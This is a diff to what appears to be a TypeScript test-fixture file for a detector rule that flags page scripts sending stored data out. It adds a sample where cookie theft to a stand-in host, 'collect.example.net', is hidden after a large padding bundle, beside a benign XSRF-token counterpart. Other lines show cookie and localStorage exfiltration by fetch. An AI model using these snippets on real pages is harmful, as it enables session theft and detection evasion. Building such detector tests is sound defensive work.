@@ -9,6 +9,7 @@ export type ScriptPack = {
 };
 
 const EVIL = 'https://collect.example.net/c';
+const BUNDLE = 'function a(b,c){return b.d(c)};'.repeat(4_000);
 const page = (source: string): Files => ({ 'web/page.html': source });
 
 const OUTLETS: readonly ScriptPack[] = [
@@ -119,6 +120,12 @@ const SOURCES: readonly ScriptPack[] = [
     rule: 'script_sends_store',
     what: 'cookies taken out of the document',
     attack: `const { cookie: c } = document, k = "localStorage";\nfetch("${EVIL}", { method: "POST", body: c + JSON.stringify(window[k]) })`,
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'a cookie that a bundle reads as axios does',
+    attack: `${BUNDLE}var r=function(e){var t=document.cookie.match(new RegExp("(^|;\\s*)("+e+")=([^;]*)"));return t?t[3]:null};fetch("${EVIL}?"+r("session"))`,
+    honest: `${BUNDLE}var r=function(e){var t=document.cookie.match(new RegExp("(^|;\\s*)("+e+")=([^;]*)"));return t?t[3]:null};var x=new XMLHttpRequest;x.open("GET",u);x.setRequestHeader("X-XSRF-TOKEN",r("XSRF-TOKEN"));x.send()`,
   },
   {
     rule: 'script_sends_store',
